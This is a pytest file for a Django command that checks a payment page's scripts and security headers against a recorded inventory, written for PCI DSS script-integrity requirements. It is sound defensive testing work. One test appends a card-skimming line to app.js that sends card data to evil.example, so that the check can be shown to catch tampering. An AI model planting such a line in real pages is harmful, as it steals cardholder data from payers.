"""check_payment_page against a live page served by real gunicorn (PCI DSS 6.4.3, 11.6.1)."""

from __future__ import annotations

import json
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from monitoring.pagecheck import normalise_header, page_scripts, sri_hash
from tests.support.servers import gunicorn

SCRIPT = b"document.querySelector('form').addEventListener('submit', encrypt);"


def _check(url: str, inventory: Path, cafile: Path) -> str:
    out = StringIO()
    call_command(
        "check_payment_page", url, inventory=str(inventory), cafile=str(cafile), stdout=out
    )
    return out.getvalue()


def _failures(url: str, inventory: Path, cafile: Path) -> str:
    out = StringIO()
    with pytest.raises(CommandError, match="finding"):
        call_command(
            "check_payment_page", url, inventory=str(inventory), cafile=str(cafile), stdout=out
        )
    return out.getvalue()


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_the_live_page_is_checked_against_its_inventory(
    tls_cert: tuple[Path, Path], tmp_path: Path
) -> None:
    (tmp_path / "app.js").write_bytes(SCRIPT)
    (tmp_path / "integrity.txt").write_text(sri_hash(SCRIPT))
    env = {
        "ROOT_URLCONF": "tests.monitoring.page_urls",
        "TEST_PAYMENT_PAGE_DIR": str(tmp_path),
    }
    inventory = tmp_path / "inventory.json"
    cafile = tls_cert[0]

    with gunicorn(cert=tls_cert, workers=1, env=env) as server:
        page = f"{server.url}/pay/"
        # given an inventory recorded from the page as deployed
        call_command(
            "check_payment_page", page, record=str(inventory), cafile=str(cafile), stdout=StringIO()
        )
        recorded = json.loads(inventory.read_text())

        # then the unchanged page passes
        ok = _check(page, inventory, cafile)

        # and every kind of change is caught
        unlisted = _failures(f"{page}?variant=extra", inventory, cafile)
        bad_attr = _failures(f"{page}?variant=bad-integrity", inventory, cafile)
        inline = _failures(f"{page}?variant=inline", inventory, cafile)
        header = _failures(f"{server.url}/pay/frameable/", inventory, cafile)
        (tmp_path / "app.js").write_bytes(SCRIPT + b"fetch('https://evil.example/'+card);")
        tampered = _failures(page, inventory, cafile)

    assert recorded["scripts"] == [
        {"src": "/pay/app.js", "integrity": sri_hash(SCRIPT), "justification": "TODO"}
    ]
    assert "'nonce-*'" in recorded["headers"]["Content-Security-Policy"]
    assert recorded["headers"]["X-Frame-Options"] == "DENY"
    assert ok.startswith(f"ok: {page} loads 1 inventoried script(s)")
    assert f"FAIL: script not in the inventory: {server.url}/pay/extra.js" in unlisted
    assert "integrity attribute" in bad_attr
    assert "FAIL: inline script not in the inventory" in inline
    assert "FAIL: header X-Frame-Options is missing" in header
    assert f"FAIL: script {server.url}/pay/app.js: content changed" in tampered


def test_missing_inventory_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="No payment-page inventory"):
        call_command(
            "check_payment_page", "https://localhost:1/pay/", inventory=str(tmp_path / "none.json")
        )


def test_an_unreachable_page_is_a_clear_error(tmp_path: Path) -> None:
    inventory = tmp_path / "inv.json"
    inventory.write_text(json.dumps({"scripts": [], "headers": {}}))

    with pytest.raises(CommandError, match="Could not check"):
        call_command(
            "check_payment_page", "https://127.0.0.1:9/pay/", inventory=str(inventory), timeout=2
        )


def test_csp_comparison_ignores_nonces_and_directive_order() -> None:
    a = "default-src 'none'; script-src 'self' 'nonce-abc'"
    b = "script-src 'nonce-xyz'  'self';default-src 'none'"
    c = "default-src 'none'; script-src 'self' 'unsafe-inline'"

    assert normalise_header("Content-Security-Policy", a) == normalise_header(
        "Content-Security-Policy", b
    )
    assert normalise_header("Content-Security-Policy", a) != normalise_header(
        "Content-Security-Policy", c
    )


def test_script_parser_finds_external_and_inline_scripts() -> None:
    html = '<script src="/a.js" integrity="sha384-x"></script><SCRIPT>1+1</SCRIPT><p>no</p>'

    scripts = page_scripts(html)

    assert [(s.src, s.integrity, s.inline) for s in scripts] == [
        ("/a.js", "sha384-x", ""),
        (None, None, "1+1"),
    ]
